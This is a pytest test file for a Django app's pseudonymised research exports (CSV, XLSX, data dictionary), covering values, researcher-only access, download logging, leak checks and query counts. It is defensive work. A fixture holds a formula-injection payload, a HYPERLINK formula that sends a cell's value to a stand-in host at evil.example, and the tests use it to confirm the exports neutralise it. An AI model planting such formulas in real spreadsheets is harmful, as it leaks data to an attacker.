"""The pseudonymised research datasets: their values, the CSV and XLSX exports (formula-safe,
typed), the data dictionary, who may download them, that they hold no personal data, and that
their query count per chunk is fixed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import zipfile
from dataclasses import dataclass
from html import unescape
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from kring.accounts.models import Region
from kring.audit.models import AccessLog
from kring.bench.management.commands.bench_export import follow_ups
from kring.cases.models import Case, Status, Variant
from kring.circle.models import Category, Participant, Willingness
from kring.demo import stories
from kring.followup.models import FollowUp, Respondent
from kring.followup.study import study_id
from kring.plans.models import (
    Agreement,
    Delivery,
    Plan,
)
from kring.research import case_sql, dataset, exports, xlsx
from kring.research.dataset import CASES, RESPONDENTS
from kring.research.period import Period
from tests.factories import (
    add_follow_up,
    add_meeting,
    add_person,
    add_plan,
    add_respondent,
    agreements_of,
    at,
    case_in_status,
    case_with_history,
)

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
# The cases' export on PostgreSQL, whatever its size: one query for the cases that lack a study
# ID and one statement that reads every case with all its figures, a chunk at a time from one
# cursor. On SQLite: the same query for the study IDs, then one statement per chunk that gives
# each table's rows for the chunk (cases with their study IDs and regions, history, circle,
# meeting and attendance, plan and its parts, follow-up moments, answers, outcomes) as JSON
# texts, joined in Python (kring.research.case_sql.Tables; before issue 18 nine ORM queries
# per chunk, at 1,100 rows/s). The first export makes the
# study IDs: one INSERT per 5,000 cases, in a transaction of its own (here a savepoint: two
# more queries). The answers: per chunk, moments, study IDs, respondents, outcomes.
CASE_QUERIES = 2
CHUNK_QUERIES = 1
STUDY_ID_QUERIES = 1
NEW_STUDY_IDS = 3
RESPONDENT_QUERIES = 4


def body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def whole(content: bytes) -> bytes:
    """A downloaded CSV without its end line (issue 18), which must be there when the
    download is whole; the dictionary has none."""
    end = exports.END_LINE.search(content)
    if end is not None:
        assert exports.complete(content) is not None, "the end line counts other rows"
        return content[: end.start()]
    return content


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(whole(content).decode("utf-8-sig"))))


def records(ds: dataset.Dataset, cases: Any = None, **kwargs: Any) -> dict[str, dict[str, Any]]:
    """The rows of a dataset keyed by study ID (and respondent number for answers)."""
    rows = ds.rows(cases if cases is not None else Case.objects.all(), **kwargs)
    named = [dict(zip([c.name for c in ds.columns], row, strict=True)) for row in rows]
    if ds is RESPONDENTS:
        return {f"{r['study_id']}/{r['follow_up_months']}/{r['respondent']}": r for r in named}
    return {str(r["study_id"]): r for r in named}


@dataclass
class Built:
    case: Case  # every phase, a circle, a meeting, a plan and two follow-up moments
    national: Case  # a request in the national inbox, nothing else
    agreements: list[Agreement]


@pytest.fixture
def built(world) -> Built:
    start = at("2026-02-10")
    case = case_with_history(
        start,
        [
            (status, start + dt.timedelta(days))
            for days, status in [
                (3, Status.INTAKE),
                (10, Status.ACCEPTED),
                (12, Status.COORDINATOR_ASSIGNED),
                (14, Status.PREPARATION),
                (20, Status.SCHEDULED),
                (22, Status.PREPARATION),  # the date cancelled: the first time counts
                (25, Status.SCHEDULED),
                (40, Status.HELD),
                (45, Status.PLAN_DISTRIBUTED),
                (75, Status.AFTERCARE),
                (80, Status.FOLLOW_UP),
            ]
        ],
        region=world.west,
        variant=Variant.FAMILY,
    )
    meeting_at = at("2026-03-22", 19)  # 40 days after the request
    people = [
        add_person(
            case,
            f"Geheime Naam {i}",
            email=f"geheim{i}@voorbeeld.test",
            phone="06-99887766",
            postal_address="Geheimstraat 12\n1011 AB Amsterdam",
            category=category,
            willingness=willingness,
        )
        for i, (category, willingness) in enumerate(
            [
                (Category.FAMILY, Willingness.YES),
                (Category.FAMILY, Willingness.YES),
                (Category.POLICE, Willingness.YES),
                (Category.NEIGHBOUR, Willingness.NO),
                (Category.FRIEND, Willingness.UNKNOWN),
            ]
        )
    ]
    add_meeting(
        case,
        meeting_at,
        ends_at=meeting_at + dt.timedelta(hours=3),
        attended=zip(
            people, [(True, True, True), (True, True, False), (True, False, True)], strict=False
        ),
    )
    plan = add_plan(
        case,
        [f"Geheime afspraak {i}" for i in range(3)],
        outcome=Plan.Outcome.ACCEPTED,
        requests=[{"organisation": "Gemeente", "request": "Verlichting"}],
        evaluations=[start.date() + dt.timedelta(weeks=weeks) for weeks in (6, 12)],
        versions=2,
    )
    agreements = agreements_of(plan)
    latest = plan.versions.get(number=2)
    for person in people[:3]:
        Delivery.objects.create(
            version=latest, participant=person, channel="email", delivered_at=meeting_at
        )
    Delivery.objects.create(version=latest, participant=people[3], channel="letter")

    three = add_follow_up(
        case,
        3,
        start.date() + dt.timedelta(days=135),
        state=FollowUp.State.OPEN,
        opened_at=start + dt.timedelta(days=140),
    )
    six = add_follow_up(
        case,
        6,
        start.date() + dt.timedelta(days=225),
        state=FollowUp.State.OPEN,
        opened_at=start + dt.timedelta(days=230),
    )
    answered = start + dt.timedelta(days=150)
    add_respondent(
        three,
        people[0],
        outcomes=dict(zip(agreements, ["done", "partly", "not"], strict=True)),
        answered_at=answered,
        answered_via=Respondent.Via.OWN_PAGE,
        better=4,
        satisfaction=8,
        recommend=True,
        new_conference="yes",
        remark="Geheime opmerking over de buren",
    )
    add_respondent(
        three,
        people[1],
        outcomes=dict(zip(agreements, ["done", "not_relevant", "done"], strict=True)),
        answered_at=answered,
        answered_via=Respondent.Via.RESEARCHER,
        better=2,
        satisfaction=5,
        recommend=False,
        new_conference="no",
    )
    add_respondent(three, people[2], declined_at=answered)
    add_respondent(three, None, category="family")
    # The later moment: not in the case's figures, but in the answers.
    add_respondent(
        six,
        people[0],
        answered_at=answered + dt.timedelta(days=90),
        answered_via=Respondent.Via.OWN_PAGE,
        better=1,
        satisfaction=1,
        recommend=False,
        new_conference="unsure",
    )

    national = case_with_history(at("2025-11-03"), [], region=None)
    return Built(case, national, agreements)


# --- Values --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_cases_dataset_holds_the_figures_of_each_case(built):
    rows = records(CASES)
    row = rows[study_id(built.case)]
    expected = {
        "variant": "familie",
        "region": "West",
        "requested_quarter": "2026-Q1",
        "status": "follow_up",
        "stage_reached": "follow_up",
        "days_request_to_intake": 3,
        "days_intake_to_accepted": 7,
        "days_accepted_to_coordinator": 4,
        "days_coordinator_to_meeting": 26,
        "days_request_to_meeting": 40,
        "days_meeting_to_plan_distributed": 5,
        "days_plan_distributed_to_follow_up": 95,
        "circle_family": 2,
        "circle_police": 1,
        "circle_neighbour": 1,
        "circle_friend": 1,
        "circle_resident": 0,
        "circle_total": 5,
        "took_part": 3,
        "declined": 1,
        "attended_information": 3,
        "attended_private_time": 2,
        "attended_plan": 2,
        "plan_outcome": "accepted",
        "plan_agreements": 3,
        "plan_requests": 1,
        "plan_evaluations": 2,
        "plan_versions": 2,
        "plan_copies_delivered": 3,
        "follow_up_months": 3,
        "follow_up_state": "open",
        "follow_up_respondents": 4,
        "follow_up_answered": 2,
        "follow_up_declined": 1,
        "agreements_done": 3,
        "agreements_partly": 1,
        "agreements_not": 1,
        "agreements_not_relevant": 1,
        "better_mean": 3.0,
        "satisfaction_mean": 6.5,
        "recommend_yes": 1,
        "new_conference_yes": 1,
    }
    assert {name: row[name] for name in expected} == expected
    assert set(row) == {column.name for column in CASES.columns}

    empty = rows[study_id(built.national)]
    assert empty["region"] == ""
    assert empty["requested_quarter"] == "2025-Q4"
    assert empty["stage_reached"] == "request"
    assert empty["circle_total"] == 0
    for name in [c.name for c in CASES.columns if c.name.startswith(("days_", "attended_"))]:
        assert empty[name] is None, name
    for name in [c.name for c in CASES.columns if c.name.startswith(("plan_", "follow_up_"))]:
        assert empty[name] is None, name
    assert empty["better_mean"] is None and empty["agreements_done"] is None
    # The world's case in preparation is there too: three cases.
    assert len(rows) == 3


@pytest.mark.django_db
def test_the_answers_dataset_has_a_row_per_respondent_numbered_within_its_moment(built):
    rows = records(RESPONDENTS)
    sid = study_id(built.case)
    assert sorted(rows) == sorted(
        [f"{sid}/3/1", f"{sid}/3/2", f"{sid}/3/3", f"{sid}/3/4", f"{sid}/6/1"]
    )
    assert rows[f"{sid}/3/1"] == {
        "study_id": sid,
        "follow_up_months": 3,
        "respondent": 1,
        "category": "family",
        "answered": "yes",
        "declined": "no",
        "answered_via": "own_page",
        "better": 4,
        "satisfaction": 8,
        "recommend": "yes",
        "new_conference": "yes",
        "agreements_done": 1,
        "agreements_partly": 1,
        "agreements_not": 1,
        "agreements_not_relevant": 0,
    }
    assert rows[f"{sid}/3/2"]["agreements_done"] == 2
    assert rows[f"{sid}/3/2"]["agreements_not_relevant"] == 1
    assert rows[f"{sid}/3/2"]["recommend"] == "no"
    declined = rows[f"{sid}/3/3"]
    assert (declined["category"], declined["answered"], declined["declined"]) == (
        "police",
        "no",
        "yes",
    )
    assert declined["better"] is None and declined["answered_via"] is None
    assert declined["recommend"] is None and declined["agreements_done"] == 0
    assert rows[f"{sid}/6/1"]["satisfaction"] == 1


@pytest.mark.django_db
def test_the_period_and_the_scope_limit_the_rows(built, world):
    rows = records(CASES, period=Period(dt.date(2026, 1, 1), dt.date(2026, 2, 10)))
    assert list(rows) == [study_id(built.case)]  # the last day is included
    assert records(CASES, period=Period(end=dt.date(2026, 2, 9))).keys() == {
        study_id(built.national)
    }
    assert records(RESPONDENTS, period=Period(end=dt.date(2026, 2, 9))) == {}
    assert len(records(RESPONDENTS, period=Period(start=dt.date(2026, 2, 10)))) == 5
    # A scope without the case: none of its rows.
    assert records(CASES, Case.objects.exclude(pk=built.case.pk)).keys() == {
        study_id(built.national),
        study_id(world.case),
    }
    assert records(RESPONDENTS, Case.objects.exclude(pk=built.case.pk)) == {}


# --- CSV and XLSX --------------------------------------------------------------------------


def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe():
    for text in ("=1+1", "+31", "-3", "@SUM(A1)", "\tx", "\rx"):
        assert exports.csv_cell(text) == "'" + text
    assert exports.csv_cell("S4BC5") == "S4BC5"
    assert exports.csv_cell(-3) == "-3"
    assert exports.csv_cell(6.5) == "6.5"
    assert exports.csv_cell(None) == ""


@pytest.fixture
def dangerous(world) -> tuple[Case, Case]:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    one = Region.objects.create(name=formula, slug="formule")
    two = Region.objects.create(name="+1", slug="plus")
    return (
        case_in_status(Status.REQUESTED, region=one),
        case_in_status(Status.REQUESTED, region=two),
    )


@pytest.mark.django_db
def test_the_csv_is_formula_safe_and_keeps_numbers(client, world, built, dangerous):
    client.force_login(world.researcher)
    response = client.get("/onderzoek/gegevens/zaken.csv", **EN)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="kring-zaken-{today}.csv"'
    assert response["Cache-Control"] == "no-store"
    content = body(response)
    rows = {row["study_id"]: row for row in csv_rows(content)}
    assert list(next(iter(rows.values()))) == [c.name for c in CASES.columns]
    one, two = dangerous
    assert rows[study_id(one)]["region"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    assert rows[study_id(two)]["region"] == "'+1"
    row = rows[study_id(built.case)]
    assert row["days_request_to_meeting"] == "40"
    assert row["satisfaction_mean"] == "6.5"
    assert row["plan_versions"] == "2"
    assert rows[study_id(built.national)]["days_request_to_intake"] == ""
    # Every text cell of the file is safe.
    for parsed in csv_rows(content):
        for value in parsed.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


CELL = re.compile(
    r'<c r="(?P<col>[A-Z]+)(?P<row>\d+)"(?: s="\d+")?(?: t="(?P<type>\w+)")?>(?P<inner>.*?)</c>',
    re.S,
)


def sheet_cells(xml: str) -> dict[int, dict[str, tuple[str | None, str]]]:
    """The cells of a worksheet by row and column: (type, text or number)."""
    cells: dict[int, dict[str, tuple[str | None, str]]] = {}
    for match in CELL.finditer(xml):
        inner = match["inner"]
        text = re.search(r"<t[^>]*>(.*?)</t>", inner, re.S) or re.search(r"<v>(.*?)</v>", inner)
        assert text is not None, inner
        cells.setdefault(int(match["row"]), {})[match["col"]] = (match["type"], unescape(text[1]))
    return cells


column_letter = xlsx.column_letters


@pytest.mark.django_db
def test_the_xlsx_has_the_data_typed_and_the_dictionary(client, world, built, dangerous):
    client.force_login(world.researcher)
    response = client.get("/onderzoek/gegevens/zaken.xlsx", **EN)
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_TYPE
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="kring-zaken-{today}.xlsx"'
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    assert archive.testzip() is None
    workbook = archive.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["zaken", "dictionary"]
    data = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in data  # no formulas, whatever the text
    cells = sheet_cells(data)
    names = [c.name for c in CASES.columns]
    assert [cells[1][column_letter(i)][1] for i in range(len(names))] == names
    by_study = {row[column_letter(0)][1]: row for number, row in cells.items() if number > 1}
    assert len(by_study) == 5
    row = by_study[study_id(built.case)]

    def cell(name: str) -> tuple[str | None, str] | None:
        return row.get(column_letter(names.index(name)))

    assert cell("days_request_to_meeting") == (None, "40")  # a number
    assert cell("satisfaction_mean") == (None, "6.5")
    assert cell("variant") == ("inlineStr", "familie")  # a string
    assert cell("region") == ("inlineStr", "West")
    national = by_study[study_id(built.national)]
    assert column_letter(names.index("days_request_to_intake")) not in national  # blank
    formula = by_study[study_id(dangerous[0])][column_letter(names.index("region"))]
    assert formula == ("inlineStr", '=HYPERLINK("http://evil.example/?x="&A1,"klik")')

    dictionary = sheet_cells(archive.read("xl/worksheets/sheet2.xml").decode())
    # Every column, and the CSV's end line last (issue 18).
    assert [dictionary[n]["A"][1] for n in sorted(dictionary) if n > 1] == [*names, "#kring-end"]
    assert dictionary[1]["A"] == ("inlineStr", "column")


@pytest.mark.django_db
def test_the_answers_export_in_both_formats(client, world, built):
    client.force_login(world.researcher)
    rows = csv_rows(body(client.get("/onderzoek/gegevens/antwoorden.csv", **EN)))
    assert len(rows) == 5
    assert list(rows[0]) == [c.name for c in RESPONDENTS.columns]
    archive = zipfile.ZipFile(
        io.BytesIO(body(client.get("/onderzoek/gegevens/antwoorden.xlsx", **EN)))
    )
    cells = sheet_cells(archive.read("xl/worksheets/sheet1.xml").decode())
    assert len(cells) == 6  # the header and five respondents


@pytest.mark.django_db
def test_the_dictionary_lists_every_column(client, world):
    client.force_login(world.researcher)
    for ds in (CASES, RESPONDENTS):
        response = client.get(f"/onderzoek/gegevens/woordenboek/{ds.slug}.csv", **EN)
        assert response.status_code == 200
        assert (
            response["Content-Disposition"]
            == f'attachment; filename="kring-{ds.slug}-woordenboek.csv"'
        )
        rows = csv_rows(body(response))
        end = ["#kring-end"]  # the CSV's end line, named last (issue 18)
        assert [row["column"] for row in rows] == [*(c.name for c in ds.columns), *end]
        assert all(row["description"] and row["type"] for row in rows)
    circle = {
        row["column"]: row
        for row in csv_rows(body(client.get("/onderzoek/gegevens/woordenboek/zaken.csv", **EN)))
    }
    assert {f"circle_{value}" for value in Category.values} <= set(circle)
    assert "buurt = group, neighbourhood or street" in circle["variant"]["values"]
    page = client.get("/onderzoek/gegevens/", **EN)
    assert page.status_code == 200
    text = page.content.decode()
    for ds in (CASES, RESPONDENTS):
        for column in ds.columns:
            assert f"<code>{column.name}</code>" in text
        assert f'href="/onderzoek/gegevens/{ds.slug}.csv"' in text
        assert f'href="/onderzoek/gegevens/{ds.slug}.xlsx"' in text
        assert f'href="/onderzoek/gegevens/woordenboek/{ds.slug}.csv"' in text


# --- Access --------------------------------------------------------------------------------

PATHS = [
    "/onderzoek/gegevens/",
    "/onderzoek/gegevens/zaken.csv",
    "/onderzoek/gegevens/zaken.xlsx",
    "/onderzoek/gegevens/antwoorden.csv",
    "/onderzoek/gegevens/antwoorden.xlsx",
    "/onderzoek/gegevens/woordenboek/zaken.csv",
    "/onderzoek/gegevens/woordenboek/antwoorden.csv",
    "/onderzoek/gegevens/excel-nl/zaken.csv",
    "/onderzoek/gegevens/excel-nl/antwoorden.csv",
    "/onderzoek/gegevens/excel-nl/woordenboek/zaken.csv",
    "/onderzoek/gegevens/excel-nl/woordenboek/antwoorden.csv",
]


@pytest.mark.django_db
def test_only_researchers_reach_the_datasets(client, world):
    for user in (world.manager, world.coordinator, world.administrator):
        client.force_login(user)
        for path in PATHS:
            assert client.get(path).status_code == 404, (user, path)
    client.logout()
    for path in PATHS:
        assert client.get(path).status_code == 302, path
    client.force_login(world.researcher)
    for path in PATHS:
        assert client.get(path).status_code == 200, path
    for path in (
        "/onderzoek/gegevens/zaken.pdf",
        "/onderzoek/gegevens/personen.csv",
        "/onderzoek/gegevens/zaken.csv.xlsx",
        "/onderzoek/gegevens/woordenboek/personen.csv",
    ):
        assert client.get(path).status_code == 404, path
    assert client.post("/onderzoek/gegevens/zaken.csv").status_code == 405
    assert (
        not AccessLog.objects.filter(object_type="dataset", outcome="ok")
        .exclude(user=world.researcher)
        .exists()
    )


@pytest.mark.django_db
def test_each_download_is_logged_without_personal_data(client, world):
    client.force_login(world.researcher)
    body(client.get("/onderzoek/gegevens/zaken.csv?start=2026-01-01&end=2026-06-30"))
    body(client.get("/onderzoek/gegevens/antwoorden.xlsx"))
    logged = list(
        AccessLog.objects.filter(object_type="dataset").values_list(
            "user_id", "action", "object_id", "case_reference", "person_type", "person_id"
        )
    )
    assert logged == [
        (world.researcher.pk, "export", "zaken.csv 2026-01-01..2026-06-30", "", "", ""),
        (world.researcher.pk, "export", "antwoorden.xlsx", "", "", ""),
    ]


@pytest.mark.django_db
def test_a_wrong_period_is_refused(client, world, built):
    client.force_login(world.researcher)
    for query in ("start=2026-06-01&end=2026-01-01", "start=gisteren"):
        for path in ("/onderzoek/gegevens/", "/onderzoek/gegevens/zaken.csv"):
            response = client.get(f"{path}?{query}", **EN)
            assert response.status_code == 400, (path, query)
            assert response["Content-Type"].startswith("text/html")
    response = client.get("/onderzoek/gegevens/?start=2026-02-01&end=2026-02-28", **EN)
    assert response.status_code == 200
    page = response.content.decode()
    assert 'href="/onderzoek/gegevens/zaken.csv?start=2026-02-01&amp;end=2026-02-28"' in page
    assert "requested from 1 February 2026 up to and including 28 February 2026." in page
    assert "hold all cases" in client.get("/onderzoek/gegevens/", **EN).content.decode()
    rows = csv_rows(
        body(client.get("/onderzoek/gegevens/zaken.csv?start=2026-02-01&end=2026-02-28"))
    )
    assert [row["study_id"] for row in rows] == [study_id(built.case)]
    assert (
        not AccessLog.objects.filter(object_type="dataset", outcome="ok")
        .exclude(object_id__startswith="zaken.csv 2026-02-01")
        .exists()
    )


# --- No personal data ----------------------------------------------------------------------


@pytest.mark.django_db
def test_a_researchers_exports_hold_no_personal_data(client, world):
    stories.load_demo()
    follow_ups(Case.objects.all(), random.Random(7))
    assert Respondent.objects.filter(answered_at__isnull=False).exists()
    secrets: set[str] = set()
    for case in Case.objects.all():
        secrets |= {
            case.reference,
            case.requester_name,
            case.requester_email,
            case.requester_phone,
            case.address,
            case.place,
        }
    for person in Participant.objects.all():
        secrets |= {person.name, person.email, person.phone, *person.postal_address.splitlines()}
    secrets |= set(Respondent.objects.values_list("code", flat=True))
    secrets |= set(Agreement.objects.values_list("what", flat=True))
    secrets = {s for s in secrets if s and len(s) > 3}
    assert len(secrets) > 500
    client.force_login(world.researcher)
    seen = 0
    for path in PATHS:
        response = client.get(path, **EN)
        assert response.status_code == 200, path
        content = body(response)
        texts = [content.decode("utf-8", "replace")]
        if path.endswith(".xlsx"):
            archive = zipfile.ZipFile(io.BytesIO(content))
            texts = [archive.read(name).decode("utf-8", "replace") for name in archive.namelist()]
            seen += len(sheet_cells(archive.read("xl/worksheets/sheet1.xml").decode()))
        for text in texts:
            leaked = [s for s in secrets if s in text]
            assert leaked == [], (path, leaked[:5])
    assert seen > Case.objects.count()  # the workbooks were not empty


# --- Queries -------------------------------------------------------------------------------


def _cases(count: int, region: Region) -> list[Case]:
    made = []
    for i in range(count):
        case = case_in_status(Status.CLOSED, region=region)
        person = add_person(case, f"P{i}", willingness="yes")
        add_meeting(case, timezone.now(), attended=[(person, (True, False, False))])
        (agreement,) = agreements_of(add_plan(case, ["-"]))
        moment = add_follow_up(case, 3, timezone.localdate(), opened_at=timezone.now())
        add_respondent(moment, person, outcomes={agreement: "done"}, answered_at=timezone.now())
        made.append(case)
    return made


def _queries(ds: dataset.Dataset, cases: Any, chunk_size: int) -> tuple[int, int]:
    """The queries (without the cases' export's two on PostgreSQL, which set the planner for the
    whole scope and reset it: see kring/research/case_sql.py), and the rows."""
    with CaptureQueriesContext(connection) as queries:
        rows = list(ds.rows(cases, chunk_size=chunk_size))
    setup = case_sql.setup_queries() if ds is CASES else 0
    if setup:
        assert queries[-1]["sql"] == "RESET jit; RESET enable_nestloop"
        assert queries[-3]["sql"] == "SET jit = off; SET enable_nestloop = off"
    return len(queries) - setup, len(rows)


@pytest.mark.django_db
def test_the_queries_per_chunk_are_fixed(world):
    made = _cases(8, world.west)
    four = Case.objects.filter(pk__in=[c.pk for c in made[:4]])
    eight = Case.objects.filter(pk__in=[c.pk for c in made])
    alone = Case.objects.filter(pk=world.case.pk)
    if connection.vendor == "postgresql":
        # The first export makes the study IDs (three more queries, per 5,000 cases); then the
        # same two queries whatever the number of cases and the size of the chunks read.
        assert _queries(CASES, four, 2) == (CASE_QUERIES + NEW_STUDY_IDS, 4)
        assert _queries(CASES, four, 2) == (CASE_QUERIES, 4)
        assert _queries(CASES, eight, 2) == (CASE_QUERIES + NEW_STUDY_IDS, 8)
        assert _queries(CASES, eight, 2) == (CASE_QUERIES, 8)
        assert _queries(CASES, eight, 3) == (CASE_QUERIES, 8)
        # A case without a meeting, a plan or a follow-up moment: the same.
        assert _queries(CASES, alone, 2) == (CASE_QUERIES + NEW_STUDY_IDS, 1)
        assert _queries(CASES, alone, 2) == (CASE_QUERIES, 1)
    else:
        # The study IDs first (three more queries the first time), then the queries of each
        # chunk, and one that finds no more cases.
        ids = STUDY_ID_QUERIES
        assert _queries(CASES, four, 2) == (ids + NEW_STUDY_IDS + CHUNK_QUERIES * 2 + 1, 4)
        assert _queries(CASES, four, 2) == (ids + CHUNK_QUERIES * 2 + 1, 4)
        assert _queries(CASES, eight, 2) == (ids + NEW_STUDY_IDS + CHUNK_QUERIES * 4 + 1, 8)
        assert _queries(CASES, eight, 2) == (ids + CHUNK_QUERIES * 4 + 1, 8)
        assert _queries(CASES, eight, 3) == (ids + CHUNK_QUERIES * 3, 8)  # the last is short
        assert _queries(CASES, alone, 2) == (ids + NEW_STUDY_IDS + CHUNK_QUERIES, 1)
        assert _queries(CASES, alone, 2) == (ids + CHUNK_QUERIES, 1)
    assert _queries(RESPONDENTS, four, 1) == (RESPONDENT_QUERIES * 4 + 1, 4)
    assert _queries(RESPONDENTS, eight, 2) == (RESPONDENT_QUERIES * 4 + 1, 8)
    assert _queries(RESPONDENTS, eight, 3) == (RESPONDENT_QUERIES * 3, 8)


@pytest.mark.django_db
def test_a_download_takes_the_same_queries_per_chunk(client, world, monkeypatch):
    client.force_login(world.researcher)
    made = _cases(8, world.west)
    monkeypatch.setattr(dataset, "CASE_CHUNK", 2)
    body(client.get("/onderzoek/gegevens/zaken.csv"))  # makes the study IDs
    counts = []
    for cases in (made[:3], made[:7]):  # with the world's case: 4 and 8 cases, 2 and 4 chunks
        Case.objects.exclude(pk__in=[world.case.pk, *[c.pk for c in cases]]).update(
            requested_at=at("2020-01-01")
        )
        for fmt in ("csv", "xlsx"):
            with CaptureQueriesContext(connection) as queries:
                content = body(client.get(f"/onderzoek/gegevens/zaken.{fmt}?start=2021-01-01"))
            assert content
            counts.append(len(queries))
        Case.objects.update(requested_at=timezone.now())
    csv_small, xlsx_small, csv_large, xlsx_large = counts
    # Twice the cases, twice the chunks: on PostgreSQL the same queries, on SQLite a chunk's
    # more per chunk.
    more = 0 if connection.vendor == "postgresql" else CHUNK_QUERIES * 2
    assert csv_large - csv_small == more
    assert xlsx_large - xlsx_small == more


# --- The CSV for Dutch Excel ----------------------------------------------------------------


def dutch_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(whole(content).decode("utf-8-sig")), delimiter=";"))


def as_dutch(value: str) -> str:
    """An international cell as Dutch Excel wants it: only a fractional number changes."""
    return value.replace(".", ",") if re.fullmatch(r"-?\d+\.\d+", value) else value


@pytest.mark.django_db
@pytest.mark.parametrize("ds", [CASES, RESPONDENTS], ids=lambda ds: ds.slug)
def test_the_dutch_csv_holds_the_same_rows_with_semicolons_and_decimal_commas(
    client, world, built, dangerous, ds
):
    client.force_login(world.researcher)
    international = client.get(f"/onderzoek/gegevens/{ds.slug}.csv", **EN)
    response = client.get(f"/onderzoek/gegevens/excel-nl/{ds.slug}.csv", **EN)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert (
        response["Content-Disposition"] == f'attachment; filename="kring-{ds.slug}-{today}.nl.csv"'
    )
    content = body(response)
    first_line = content.decode("utf-8-sig").split("\r\n")[0]
    assert first_line == ";".join(c.name for c in ds.columns)
    dutch = dutch_rows(content)
    expected = [
        {name: as_dutch(value) for name, value in row.items()}
        for row in csv_rows(body(international))
    ]
    assert dutch == expected
    assert dutch  # there are rows to compare
    for row in dutch:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    if ds is CASES:
        rows = {row["study_id"]: row for row in dutch}
        row = rows[study_id(built.case)]
        assert row["satisfaction_mean"] == "6,5"
        assert row["days_request_to_meeting"] == "40"
        assert rows[study_id(dangerous[1])]["region"] == "'+1"


def test_a_dutch_cell_changes_only_fractions():
    assert exports.csv_cell(6.5, exports.DUTCH) == "6,5"
    assert exports.csv_cell(6.5) == "6.5"
    assert exports.csv_cell(1234, exports.DUTCH) == "1234"
    assert exports.csv_cell("1.5 uur", exports.DUTCH) == "1.5 uur"
    assert exports.csv_cell("-1,5", exports.DUTCH) == "'-1,5"


@pytest.mark.django_db
def test_the_dutch_dictionary_and_the_labelled_links(client, world):
    client.force_login(world.researcher)
    for ds in (CASES, RESPONDENTS):
        response = client.get(f"/onderzoek/gegevens/excel-nl/woordenboek/{ds.slug}.csv", **EN)
        assert response.status_code == 200
        assert response["Content-Disposition"] == (
            f'attachment; filename="kring-{ds.slug}-woordenboek.nl.csv"'
        )
        international = csv_rows(
            body(client.get(f"/onderzoek/gegevens/woordenboek/{ds.slug}.csv", **EN))
        )
        assert dutch_rows(body(response)) == international
    text = client.get("/onderzoek/gegevens/", **EN).content.decode()
    assert 'href="/onderzoek/gegevens/excel-nl/zaken.csv"' in text
    assert "as CSV (Dutch Excel: semicolon, decimal comma)" in text
    assert "as CSV (international: comma, decimal point)" in text
    dutch = client.get("/onderzoek/gegevens/", HTTP_ACCEPT_LANGUAGE="nl").content.decode()
    assert "als CSV (Nederlandse Excel: puntkomma, decimale komma)" in dutch
    assert "als CSV (internationaal: komma, decimale punt)" in dutch


@pytest.mark.django_db
def test_the_dutch_download_takes_the_same_queries_per_chunk(client, world, monkeypatch):
    client.force_login(world.researcher)
    made = _cases(8, world.west)
    monkeypatch.setattr(dataset, "CASE_CHUNK", 2)
    body(client.get("/onderzoek/gegevens/excel-nl/zaken.csv"))  # makes the study IDs
    counts = []
    for cases in (made[:3], made[:7]):  # with the world's case: 4 and 8 cases, 2 and 4 chunks
        Case.objects.exclude(pk__in=[world.case.pk, *[c.pk for c in cases]]).update(
            requested_at=at("2020-01-01")
        )
        with CaptureQueriesContext(connection) as queries:
            content = body(client.get("/onderzoek/gegevens/excel-nl/zaken.csv?start=2021-01-01"))
        assert len(dutch_rows(content)) == len(cases) + 1
        counts.append(len(queries))
        Case.objects.update(requested_at=timezone.now())
    small, large = counts
    assert large - small == (0 if connection.vendor == "postgresql" else CHUNK_QUERIES * 2)


@pytest.mark.django_db
def test_the_api_s_page_turns_jit_off_on_postgresql_while_it_reads(world):
    """JIT compiled each page's statement (seconds at 100,000 cases): see case_sql."""
    _cases(3, world.west)
    with CaptureQueriesContext(connection) as queries:
        page = dataset.case_page(Case.objects.all(), Period(), 0, 2)
    assert len(page.rows) == 2 and page.after is not None
    sql = [q["sql"] for q in queries]
    if connection.vendor == "postgresql":
        assert (sql[0], sql[-1]) == ("SET jit = off", "RESET jit")
    else:
        assert not [s for s in sql if "jit" in s]
